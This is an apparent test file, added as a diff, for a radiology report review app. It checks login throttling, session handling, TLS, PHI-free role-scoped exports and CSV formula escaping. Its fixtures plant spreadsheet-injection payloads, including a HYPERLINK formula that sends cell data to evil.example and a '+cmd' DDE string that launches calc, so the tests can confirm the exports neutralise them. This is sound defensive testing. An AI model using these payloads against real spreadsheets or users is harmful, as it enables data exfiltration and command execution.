@@ -1,0 +1,375 @@
+"""The running app over real HTTP: logins, 401s, throttling, logout, role-scoped exports with
+no PHI and no CSV formulas, admin-only controls, TLS and the refusal of plain HTTP.
+
+The database is filled through the real CLI (import of a folder whose name and report.json
+carry a patient's name and MRN, retrieval drafting, reader accounts); the app runs as a
+subprocess (`launch.py`) whose output is drained to a file; calls go through Gradio's own
+queue protocol with each reader's session cookie, the way the page makes them.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import socket
+import sqlite3
+import stat
+import subprocess
+import sys
+import time
+import uuid
+from pathlib import Path
+
+import httpx
+import numpy as np
+import pytest
+
+ROOT = Path(__file__).resolve().parents[1]
+pytestmark = pytest.mark.slow
+PHI_FOLDER = "DOE_JOHN_MRN-5550001"
+MRN = "5550001"
+FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"open me")'
+PASSWORDS = {"alice": "tulip-river-0451", "bob": "granite-owl-7732",
+             "root": "copper-lantern-9981"}
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def cli(*args: str, stdin: str | None = None, env: dict | None = None):
+    result = subprocess.run([sys.executable, "-m", "app.cli", *args], cwd=ROOT, input=stdin,
+                            capture_output=True, text=True, timeout=300,
+                            env={**os.environ, "HF_HUB_OFFLINE": "1", **(env or {})})
+    assert result.returncode == 0, result.stderr[-3000:]
+    return result
+
+
+class RunningApp:
+    """launch.py in a subprocess; stdout+stderr drained to a log file (never a full pipe)."""
+
+    def __init__(self, workdir: Path, *args: str, scheme: str = "http",
+                 verify: bool | str = True, host: str = "127.0.0.1") -> None:
+        self.port = free_port()
+        self.url = f"{scheme}://127.0.0.1:{self.port}/"
+        self.log_path = workdir / f"app-{self.port}.log"
+        self.tmp = workdir / f"tmp-{self.port}"
+        self.tmp.mkdir()
+        self.log = self.log_path.open("w")
+        self.proc = subprocess.Popen(
+            [sys.executable, "launch.py", "--host", host, "--port", str(self.port), *args],
+            cwd=ROOT, stdout=self.log, stderr=subprocess.STDOUT, text=True,
+            env={**os.environ, "HF_HUB_OFFLINE": "1", "TMPDIR": str(self.tmp)})
+        deadline = time.monotonic() + 120
+        while time.monotonic() < deadline:
+            if self.proc.poll() is not None:
+                pytest.fail(f"app exited early:\n{self.log_path.read_text()[-3000:]}")
+            try:
+                httpx.get(self.url + "login", timeout=2, verify=verify)
+                return
+            except httpx.HTTPError:
+                time.sleep(0.5)
+        self.stop()
+        pytest.fail("app did not start within 120 s")
+
+    def stop(self) -> None:
+        if self.proc.poll() is None:
+            self.proc.terminate()
+            self.proc.wait(timeout=30)
+        self.log.close()
+
+
+class Tab:
+    """One browser tab of one reader: its cookie jar and session hash, calling handlers the
+    way the page does (POST queue/join with the fn_index, then read queue/data)."""
+
+    def __init__(self, app: RunningApp, cookies: httpx.Cookies | None = None,
+                 verify: bool | str = True) -> None:
+        self.app = app
+        self.http = httpx.Client(base_url=app.url, cookies=cookies, timeout=120, verify=verify)
+        self.session_hash = uuid.uuid4().hex[:11]
+
+    def login(self, name: str, password: str) -> httpx.Response:
+        return self.http.post("login", data={"username": name, "password": password})
+
+    def config(self) -> dict:
+        r = self.http.get("config")
+        r.raise_for_status()
+        return r.json()
+
+    def call(self, trigger_elem: str, values: dict[str, object]) -> dict:
+        """Run the handler bound to the element `trigger_elem` with inputs given by elem_id
+        (State and other inputs not named are sent as null, as the page sends state)."""
+        config = self.config()
+        by_id = {c["id"]: c for c in config["components"]}
+        elem = {c.get("props", {}).get("elem_id"): c["id"] for c in config["components"]}
+        target = elem[trigger_elem]
+        fn_index, dep = next((i, d) for i, d in enumerate(config["dependencies"])
+                             if any(t[0] == target for t in d["targets"]))
+        fn_index = dep.get("id", fn_index)
+        data = [values.get(by_id[i].get("props", {}).get("elem_id")) for i in dep["inputs"]]
+        join = self.http.post("gradio_api/queue/join", json={
+            "data": data, "fn_index": fn_index, "trigger_id": target, "event_data": None,
+            "session_hash": self.session_hash})
+        join.raise_for_status()
+        with self.http.stream("GET", "gradio_api/queue/data",
+                              params={"session_hash": self.session_hash}) as stream:
+            for line in stream.iter_lines():
+                if not line.startswith("data:"):
+                    continue
+                msg = json.loads(line[5:])
+                if msg.get("msg") == "process_completed":
+                    return msg
+        raise AssertionError("no process_completed message")
+
+
+def _png(path: Path, pixels: np.ndarray) -> None:
+    from PIL import Image
+
+    path.parent.mkdir(parents=True, exist_ok=True)
+    Image.fromarray(pixels.astype(np.uint16)).save(path)
+
+
+@pytest.fixture(scope="module")
+def team(tmp_path_factory, rg1_small):
+    """Demo studies plus a folder study named after a patient with hostile report text,
+    drafted by the retrieval preset; alice and bob (readers) and root (admin) have edited."""
+    work = tmp_path_factory.mktemp("team")
+    db = work / "team.sqlite"
+    cases = work / "cases"
+    _png(cases / PHI_FOLDER / "chest.png", rg1_small)
+    (cases / PHI_FOLDER / "report.json").write_text(json.dumps({
+        "patient_id": f"MRN-{MRN}", "study_date": "2024-03-01",
+        "findings": FORMULA + " Heart size normal.", "impression": "+cmd|' /C calc'!A0",
+        "indication": "@SUM(1+1) cough"}))
+    _png(cases / "plain-case" / "chest.png", rg1_small[::-1])
+    (cases / "plain-case" / "report.json").write_text(json.dumps({
+        "patient_id": "MRN-7770002", "findings": "-2+3 Lungs clear.",
+        "impression": "No acute disease."}))
+    from app.services.setup import seed_demo
+    from app.settings import Settings
+    from db.engine import open_database
+
+    database = open_database(db)
+    seed_demo(database, Settings.from_args(str(db)))
+    database.dispose()
+    cli("import", str(cases), "--format", "folder", "--db", str(db))
+    cli("draft", "--model", "retrieval", "--db", str(db))
+    for name in ("alice", "bob"):
+        cli("readers", "add", name, "--password-stdin", "--db", str(db),
+            stdin=PASSWORDS[name] + "\n")
+    cli("readers", "add", "root", "--admin", "--password-stdin", "--db", str(db),
+        stdin=PASSWORDS["root"] + "\n")
+    # each reader edits and rates every study through the review service
+    from app.services.drafting import DraftingService, RuntimeConfig
+    from app.services.review import ReviewService
+
+    database = open_database(db)
+    review = ReviewService(database)
+    drafting = DraftingService(database, Settings.from_args(str(db)), RuntimeConfig())
+    for name in ("alice", "bob"):
+        reader = review.reader_id(name)
+        for item in review.worklist(reader):
+            draft = drafting.latest(item.study_id, "retrieval")["findings"]
+            review.save(reader, item.study_id, "findings",
+                        f"@{name}-secret-edit {draft.text}", None, draft_id=draft.id)
+            review.rate(reader, item.study_id, likert=3, acceptable=False,
+                        comment=f"=cmd {name}-secret-comment", preset="retrieval")
+    database.dispose()
+    app = RunningApp(work, "--db", str(db), "--login", "--no-demo", "--no-predraft")
+    yield app, db, work
+    app.stop()
+
+
+def logged_in(app: RunningApp, name: str) -> Tab:
+    tab = Tab(app)
+    response = tab.login(name, PASSWORDS[name])
+    assert response.status_code == 200 and response.json() == {"success": True}
+    cookie = next(c for c in tab.http.cookies.jar if c.name == "rrg-session")
+    assert cookie.has_nonstandard_attr("HttpOnly")
+    return tab
+
+
+def test_unauthenticated_calls_get_401_and_the_page_sends_to_login(team):
+    app, _, _ = team
+    anon = Tab(app)
+    for path in ("config", "gradio_api/info", "gradio_api/queue/data?session_hash=x"):
+        assert anon.http.get(path).status_code == 401, path
+    join = anon.http.post("gradio_api/queue/join", json={"data": [], "fn_index": 0,
+                                                          "session_hash": "x"})
+    assert join.status_code == 401
+    page = anon.http.get("", headers={"accept": "text/html"})
+    assert page.status_code == 303 and page.headers["location"].endswith("login")
+    form = anon.http.get("login")
+    assert form.status_code == 200 and 'name="password"' in form.text.replace("name=password",
+                                                                             'name="password"')
+    forged = Tab(app, cookies=httpx.Cookies({"rrg-session": "forged-token"}))
+    assert forged.http.get("config").status_code == 401
+
+
+def test_wrong_passwords_are_throttled_and_audited(team):
+    app, db, _ = team
+    tab = Tab(app)
+    codes = [tab.login("bob", "not-the-password").status_code for _ in range(4)]
+    assert codes == [401, 401, 401, 401]
+    refused = tab.login("bob", PASSWORDS["bob"])  # right password, but bob must wait now
+    assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
+    assert "try again" in refused.json()["detail"]
+    html = tab.http.post("login", data={"username": "bob", "password": "x"},
+                         headers={"accept": "text/html"})
+    assert html.status_code == 429 and "Too many failed attempts" in html.text
+    with sqlite3.connect(db) as conn:
+        rows = conn.execute("SELECT action, address, ok FROM audit_event WHERE actor='bob' "
+                            "AND action LIKE 'login%'").fetchall()
+    assert rows.count(("login_failed", "127.0.0.1", 0)) == 4
+    assert ("login_throttled", "127.0.0.1", 0) in rows
+    time.sleep(int(refused.headers["retry-after"]) + 1.5)  # back-off over: bob may log in
+    assert tab.login("bob", PASSWORDS["bob"]).status_code == 200
+
+
+def _export(tab: Tab, fmt: str, mine: bool) -> tuple[str, str]:
+    done = tab.call("export-button", {"export-format": fmt, "export-mine": mine})
+    assert done["success"], done
+    file = done["output"]["data"][0]
+    body = tab.http.get(file["url"])
+    assert body.status_code == 200
+    return file["url"], body.text
+
+
+def _assert_no_phi(text: str) -> None:
+    for leak in (PHI_FOLDER, "DOE", MRN, "7770002", "plain-case"):
+        assert leak not in text, leak
+
+
+def test_a_readers_export_holds_only_their_own_work_without_phi_or_formulas(team):
+    app, _, _ = team
+    alice = logged_in(app, "alice")
+    for mine in (True, False):  # unticking "Only my reviews" changes nothing for a reader
+        url, text = _export(alice, "csv", mine)
+        assert "alice-secret-edit" in text and "alice-secret-comment" in text
+        assert "bob-secret" not in text and "bob" not in text
+        _assert_no_phi(text)
+        rows = list(csv.DictReader(io.StringIO(text)))
+        assert rows and {r["reader"] for r in rows} == {"alice"}
+        for row in rows:
+            assert re.fullmatch(r"study-[0-9a-f]{12}", row["study_key"]), row["study_key"]
+            for cell in row.values():
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+        assert any(r["final"].startswith("'@alice-secret-edit") for r in rows)
+        assert any(r["comment"] == "'=cmd alice-secret-comment" for r in rows)
+        # the download is deleted once sent
+        assert alice.http.get(url).status_code in (403, 404)
+    _, js = _export(alice, "json", False)
+    assert "bob-secret" not in js and "alice-secret-edit" in js
+    _assert_no_phi(js)
+    _, page = _export(alice, "html", False)
+    assert "bob-secret" not in page and "alice-secret" in page
+    _assert_no_phi(page)
+
+
+def test_an_admin_exports_everyones_work_with_opaque_ids(team):
+    app, db, _ = team
+    root = logged_in(app, "root")
+    _, text = _export(root, "csv", False)
+    assert "alice-secret-edit" in text and "bob-secret-edit" in text
+    _assert_no_phi(text)
+    _, mine = _export(root, "csv", True)
+    assert "alice-secret" not in mine and "bob-secret" not in mine
+    with sqlite3.connect(db) as conn:
+        exports = conn.execute("SELECT actor, target, address FROM audit_event "
+                               "WHERE action='export'").fetchall()
+    assert ("root", "csv: all readers", "127.0.0.1") in exports
+    assert any(a == "alice" and t.startswith("csv: own work") for a, t, _ in exports)
+
+
+def test_unloading_the_model_is_for_admins_only(team):
+    app, _, _ = team
+    refused = logged_in(app, "alice").call("unload-model", {})
+    assert not refused["success"] and "admin" in json.dumps(refused)
+    allowed = logged_in(app, "root").call("unload-model", {})
+    assert allowed["success"], allowed
+
+
+def test_logout_ends_the_session_on_the_server(team):
+    app, db, _ = team
+    alice = logged_in(app, "alice")
+    cookie = alice.http.cookies.get("rrg-session")
+    page = alice.http.get("config")
+    assert page.status_code == 200 and 'href="logout"' in page.text  # the page's sign-out
+    out = alice.http.get("logout")
+    assert out.status_code == 303 and out.headers["location"].startswith("login")
+    replay = Tab(app, cookies=httpx.Cookies({"rrg-session": cookie}))
+    assert replay.http.get("config").status_code == 401
+    with sqlite3.connect(db) as conn:
+        assert conn.execute("SELECT count(*) FROM audit_event WHERE action='logout' AND "
+                            "actor='alice'").fetchone()[0] == 1
+
+
+def test_pseudonyms_in_the_database_and_private_runtime_files(team):
+    app, db, work = team
+    with sqlite3.connect(db) as conn:
+        keys = [r[0] for r in conn.execute("SELECT key FROM patient")]
+        studies = conn.execute("SELECT count(*) FROM study").fetchone()[0]
+    assert studies == 6 and all(k.startswith("anon-") for k in keys)
+    assert not any(MRN in k for k in keys)
+    key_file = db.with_name(db.name + ".key")
+    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
+    assert stat.S_IMODE(db.stat().st_mode) & 0o077 == 0
+    runtime = list(app.tmp.glob("rrg-review-run-*"))
+    assert len(runtime) == 1 and stat.S_IMODE(runtime[0].stat().st_mode) == 0o700
+    leftovers = [p for p in runtime[0].rglob("*") if p.is_file()
+                 and p.name.startswith("rrg-review-report") and "gradio" in str(p)]
+    assert leftovers == []  # downloaded exports were deleted
+
+
+def test_plain_http_beyond_loopback_is_refused(tmp_path):
+    result = subprocess.run([sys.executable, "launch.py", "--host", "0.0.0.0", "--db",
+                             str(tmp_path / "x.sqlite")], cwd=ROOT, capture_output=True,
+                            text=True, timeout=60)
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert result.stderr.count("\n") == 1 and "plain HTTP" in result.stderr
+    assert not (tmp_path / "x.sqlite").exists()  # refused before touching anything
+    bad = subprocess.run([sys.executable, "launch.py", "--host", "0.0.0.0", "--ssl-certfile",
+                          str(tmp_path / "none.pem"), "--ssl-keyfile", str(tmp_path / "k.pem"),
+                          "--db", str(tmp_path / "x.sqlite")], cwd=ROOT, capture_output=True,
+                         text=True, timeout=60)
+    assert bad.returncode == 2 and "does not exist" in bad.stderr and "Traceback" not in \
+        bad.stderr
+
+
+def test_tls_with_a_self_signed_certificate(team, tmp_path):
+    _, db, work = team
+    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
+    made = subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes",
+                           "-keyout", str(key), "-out", str(cert), "-days", "1", "-subj",
+                           "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1"],
+                          capture_output=True, text=True)
+    if made.returncode != 0:
+        pytest.skip(f"openssl could not make a certificate: {made.stderr[-300:]}")
+    mismatched = tmp_path / "other.pem"
+    subprocess.run(["openssl", "genrsa", "-out", str(mismatched), "2048"], capture_output=True)
+    wrong = subprocess.run([sys.executable, "launch.py", "--host", "0.0.0.0", "--ssl-certfile",
+                            str(cert), "--ssl-keyfile", str(mismatched), "--db", str(db)],
+                           cwd=ROOT, capture_output=True, text=True, timeout=60)
+    assert wrong.returncode == 2 and "cannot be used together" in wrong.stderr
+    app = RunningApp(work, "--db", str(db), "--no-demo", "--no-predraft", "--ssl-certfile",
+                     str(cert), "--ssl-keyfile", str(key), scheme="https", verify=str(cert),
+                     host="0.0.0.0")
+    try:
+        with pytest.raises(httpx.HTTPError):  # plain HTTP on the TLS port gets nowhere
+            httpx.get(f"http://127.0.0.1:{app.port}/config", timeout=5)
+        tab = Tab(app, verify=str(cert))
+        assert tab.http.get("config").status_code == 401
+        login = tab.login("root", PASSWORDS["root"])
+        assert login.status_code == 200
+        assert "secure" in login.headers["set-cookie"].lower()
+        assert "samesite=strict" in login.headers["set-cookie"].lower()
+        assert login.headers["strict-transport-security"].startswith("max-age=")
+        assert tab.http.get("config").status_code == 200
+    finally:
+        app.stop()
